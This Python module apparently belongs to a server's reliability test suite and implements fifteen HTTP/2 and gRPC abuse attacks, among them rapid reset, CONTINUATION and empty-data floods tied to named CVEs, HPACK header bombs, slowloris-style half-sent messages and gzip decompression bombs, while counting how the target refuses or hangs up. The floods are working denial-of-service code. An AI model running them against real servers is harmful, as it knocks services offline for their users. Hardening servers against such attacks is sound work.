"""What hostile peers do with HTTP/2, frame by frame. Each attack says how often what came of it."""

from __future__ import annotations

import asyncio
import struct
import zlib
from collections import Counter
from collections.abc import Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

from reliability.abuse_bombs import HEALTH, INFERENCE, OPEN_INFERENCE, field
from reliability.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MOST_FRAME_BYTES,
    PING,
    PRIORITY,
    SETTINGS,
    Wire,
    begin_call,
    call_headers,
    frame,
    header_block,
    message_prefix,
    reset,
    setting,
    window_update,
)

EMBED, GENERATE, TOKENIZE = f"{INFERENCE}/Embed", f"{INFERENCE}/Generate", f"{INFERENCE}/Tokenize"
STATISTICS = f"{OPEN_INFERENCE}/ModelStatistics"

_BATCH = 100
_CONNECTIONS_AT_ONCE = 50
_ANSWER_SECONDS = 10.0
_SETTLE_SECONDS = 0.3
_LOOK_SECONDS = 0.02
_FEW = 10

Outcome = Counter[str]


@dataclass(frozen=True)
class Attack:
    """One way to attack.

    Attributes:
        name: What it is.
        run: Does it so many times against HOST:PORT.
        count: How often in the long run.
        short: How often in the short one.
    """

    name: str
    run: Callable[[str, int], Coroutine[Any, Any, Outcome]]
    count: int
    short: int


async def rapid_reset(target: str, count: int) -> Outcome:
    """Begin calls, and take each back at once (CVE-2023-44487)."""

    def call(index: int) -> bytes:
        stream = 2 * index + 1
        return begin_call(stream, HEALTH) + frame(DATA, END_STREAM, stream, message_prefix(0)) + reset(stream)

    return await _flood(target, count, call)


async def pings(target: str, count: int) -> Outcome:
    """Ask for more signs of life than anybody needs."""
    return await _flood(target, count, lambda index: frame(PING, 0, 0, struct.pack(">Q", index)))


async def settings(target: str, count: int) -> Outcome:
    """Change one's mind about settings again and again."""
    return await _flood(
        target, count, lambda index: frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535 + index % 2))
    )


async def continuations(target: str, count: int) -> Outcome:
    """Headers that never end (CVE-2024-27316)."""
    block = header_block([("x-padding", "a" * 1000)])

    def part(index: int) -> bytes:
        return begin_call(1, HEALTH, flags=0) if not index else frame(CONTINUATION, 0, 1, block)

    return await _flood(target, count, part)


async def priorities(target: str, count: int) -> Outcome:
    """Arrange streams that there are none of."""
    return await _flood(
        target, count, lambda index: frame(PRIORITY, 0, 2 * index + 1, struct.pack(">IB", 0, index % 256))
    )


async def windows(target: str, count: int) -> Outcome:
    """Allow one more byte, again and again."""
    return await _flood(target, count, lambda _: window_update(0, 1))


async def empty_data(target: str, count: int) -> Outcome:
    """Send nothing, in many frames (CVE-2019-9518)."""
    return await _flood(target, count, lambda index: frame(DATA, 0, 1) if index else begin_call(1, EMBED))


async def large_headers(target: str, count: int) -> Outcome:
    """Calls with headers of some 12 KB, which are let through, and of more than 16 KB, which are not."""
    outcome: Outcome = Counter()
    for size, name in ((12_000, "of 12 KB"), (20_000, "of 20 KB")):
        wire = await Wire.connect(target)
        for index in range(count // 2):
            stream = 2 * index + 1
            block = header_block(call_headers(HEALTH, ("x-large", "a" * size)))
            parts = [block[at : at + MOST_FRAME_BYTES] for at in range(0, len(block), MOST_FRAME_BYTES)]
            frames = [
                frame(CONTINUATION if at else HEADERS, END_HEADERS if at == len(parts) - 1 else 0, stream, part)
                for at, part in enumerate(parts)
            ]
            if not await wire.send(*frames, frame(DATA, END_STREAM, stream, message_prefix(0))):
                break
        await wire.until_ended(count // 2, _ANSWER_SECONDS)
        outcome[f"answered {name}"] = wire.received[DATA]
        outcome[f"ended {name}"] = wire.ended
        await wire.close()
    return outcome


async def header_bombs(target: str, count: int) -> Outcome:
    """Headers that name one long header thousands of times, by an index of a byte (CVE-2016-1544)."""
    long_header = b"\x40" + header_block([("x-bomb", "a" * 3900)])[1:]  # is remembered under the first free index
    outcome: Outcome = Counter()
    for _ in range(count):
        wire = await Wire.connect(target)
        block = header_block(call_headers(HEALTH)) + long_header + b"\xbe" * 10_000
        await wire.send(frame(HEADERS, END_HEADERS, 1, block), frame(DATA, END_STREAM, 1, message_prefix(0)))
        await wire.until_ended(1, _ANSWER_SECONDS)
        outcome["answered"] += wire.received[DATA]
        outcome["refused"] += not wire.received[DATA]
        await wire.close()
    return outcome


async def idle_connections(target: str, count: int) -> Outcome:
    """Connect, and say nothing more."""
    wires = await _connect(target, count)
    await asyncio.sleep(1)
    outcome = Counter({"open": sum(wire.open for wire in wires)})
    await _close(wires)
    return outcome


async def half_sent(target: str, count: int) -> Outcome:
    """Send half of each message, and wait."""
    size = 64 << 10
    wires = await _connect(target, count)

    async def half(wire: Wire) -> int:
        await wire.send(begin_call(1, EMBED))
        return await wire.send_data(1, message_prefix(size) + bytes(size // 2))

    sent = await asyncio.gather(*map(half, wires))
    await asyncio.sleep(1)
    outcome = Counter({"sent MB": sum(sent) >> 20, "refused": sum(wire.ended for wire in wires)})
    await _close(wires)
    return outcome


async def half_sent_large(target: str, count: int) -> Outcome:
    """The same with messages as large as there may be, nearly all of each; several on one connection."""
    size, on_one = 8 << 20, 4
    data = message_prefix(size) + bytes(size - 1)
    wires = await _connect(target, count // on_one)

    async def half(wire: Wire) -> int:
        sent = 0
        for index in range(on_one):
            await wire.send(begin_call(2 * index + 1, EMBED))
            sent += await wire.send_data(2 * index + 1, data, wait_seconds=1)
        return sent

    sent = await asyncio.gather(*map(half, wires))
    # The server looks now and then.
    with suppress(TimeoutError):
        async with asyncio.timeout(_ANSWER_SECONDS):
            while not any(wire.ended for wire in wires):
                await asyncio.sleep(_LOOK_SECONDS)
    outcome = Counter({"sent MB": sum(sent) >> 20, "refused": sum(wire.ended for wire in wires)})
    await _close(wires)
    return outcome


async def announced_gigabyte(target: str, count: int) -> Outcome:
    """Announce a message of 1 GB."""
    outcome: Outcome = Counter()
    for _ in range(count):
        wire = await Wire.connect(target)
        await wire.send(begin_call(1, EMBED))
        await wire.send_data(1, message_prefix(1 << 30))
        await wire.until_ended(1, _ANSWER_SECONDS)
        outcome["refused"] += bool(wire.ended)
        await wire.close()
    return outcome


async def compressed_bombs(target: str, count: int) -> Outcome:
    """Messages of 5 MB that are a gigabyte of zeros, compressed."""
    zeros = bytes(1 << 20)
    # Smaller where there are few, as making them takes longer than refusing them.
    megabytes = 1024 if count > _FEW else 64
    outcome: Outcome = Counter()
    for encoding in ("gzip", "deflate"):
        packer = zlib.compressobj(1, zlib.DEFLATED, zlib.MAX_WBITS | (16 if encoding == "gzip" else 0))
        bomb = b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()
        for _ in range(max(1, count // 2)):
            wire = await Wire.connect(target)
            await wire.send(begin_call(1, EMBED, ("grpc-encoding", encoding)))
            await wire.send_data(1, message_prefix(len(bomb), compressed=True) + bomb)
            await wire.until_ended(1, _ANSWER_SECONDS)
            outcome["refused"] += bool(wire.ended)
            await wire.close()
    return outcome


async def zero_windows(target: str, count: int) -> Outcome:
    """Ask for much, and never read it."""
    texts = field(3, b"w1 w2 w3") * 256
    request = field(1, b"sleeper") + texts
    calls = (
        (EMBED, request),
        (TOKENIZE, request),
        (STATISTICS, b""),
        (f"{INFERENCE}/GenerateStream", field(1, b"pronounce") + field(3, b"restaurant") * 4),
    )
    wires = await _connect(target, max(1, count // 100), setting(INITIAL_WINDOW_SIZE, 0))
    sent: Outcome = Counter()

    async def ask(wire: Wire) -> None:
        for index in range(count // len(wires)):
            method, data = calls[index % len(calls)]
            stream = 2 * index + 1
            await wire.send(begin_call(stream, method))
            if not await wire.send_data(stream, message_prefix(len(data)) + data):
                return
            await wire.send(frame(DATA, END_STREAM, stream))
            sent["sent"] += 1

    await asyncio.gather(*map(ask, wires))
    await asyncio.sleep(2)
    outcome = sent + Counter(
        {"ended": sum(wire.ended for wire in wires), "bytes": sum(wire.data_bytes for wire in wires)}
    )
    await _close(wires)
    return outcome


ATTACKS = (
    Attack("rapid reset", rapid_reset, 100_000, 2000),
    Attack("pings", pings, 100_000, 2000),
    Attack("settings", settings, 100_000, 2000),
    Attack("continuations", continuations, 100_000, 2000),
    Attack("priorities", priorities, 100_000, 2000),
    Attack("window updates of a byte", windows, 100_000, 2000),
    Attack("empty data", empty_data, 100_000, 2000),
    Attack("large headers", large_headers, 2000, 40),
    Attack("header bombs", header_bombs, 500, 5),
    Attack("idle connections", idle_connections, 2000, 200),
    Attack("half-sent messages", half_sent, 1000, 100),
    Attack("half-sent messages of 8 MB", half_sent_large, 160, 24),
    Attack("announced gigabytes", announced_gigabyte, 1000, 10),
    Attack("compressed bombs", compressed_bombs, 40, 2),
    Attack("zero windows", zero_windows, 2000, 100),
)
BY_NAME = {attack.name: attack for attack in ATTACKS}


def run_attack(name: str, target: str, count: int) -> Outcome:
    """Attack; for a process of its own."""

    async def attack() -> Outcome:
        return await BY_NAME[name].run(target, count)

    return asyncio.run(attack())


async def _flood(target: str, count: int, part: Callable[[int], bytes]) -> Outcome:
    """Send frames on one connection, and on another when the server has hung up, until so many are sent."""
    outcome: Outcome = Counter()
    sent = 0
    while sent < count:
        wire = await Wire.connect(target)
        for begin in range(0, count - sent, _BATCH):
            frames = [part(index) for index in range(begin, min(begin + _BATCH, count - sent))]
            if not await wire.send(*frames):
                break
            outcome["sent"] += len(frames)
            # Whoever listens to nothing would not hear that the server hangs up.
            await asyncio.sleep(0)
        await wire.heard(_SETTLE_SECONDS)
        outcome["hung up"] += not wire.open
        outcome["connections"] += 1
        sent = outcome["sent"]
        await wire.close()
        if outcome["connections"] * 10 > count:  # not one frame gets through
            break
    return outcome


async def _connect(target: str, count: int, *settings: bytes) -> list[Wire]:
    wires: list[Wire] = []
    while len(wires) < count:
        at_once = min(_CONNECTIONS_AT_ONCE, count - len(wires))
        wires += await asyncio.gather(*(Wire.connect(target, *settings) for _ in range(at_once)))
    return wires


async def _close(wires: list[Wire]) -> None:
    await asyncio.gather(*(wire.close() for wire in wires))
